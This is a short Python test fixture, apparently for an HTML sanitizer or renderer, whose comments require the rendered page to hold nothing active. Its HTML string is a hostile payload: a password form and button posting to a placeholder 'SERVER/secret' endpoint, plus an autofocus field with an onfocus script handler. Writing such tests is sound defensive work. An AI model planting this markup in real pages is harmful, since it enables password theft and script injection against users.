# Ask for secrets by a form that sends them away.
# browsers: chromium firefox webkit
# seen: the page that shows the result
# holds: nothing active, no request, and no member of the page is hidden
# browser: ok html output-limit output-type crash
# wasi: ok html
HTML = '<form action="SERVER/secret" method="post"><input name="password" type="password" autofocus onfocus="globalThis.pwned=1"><button formaction="SERVER/secret">x</button></form><p contenteditable inputmode="none">x</p>'


def render(context):
    return {"html": HTML.replace("SERVER", context["params"]["server"])}
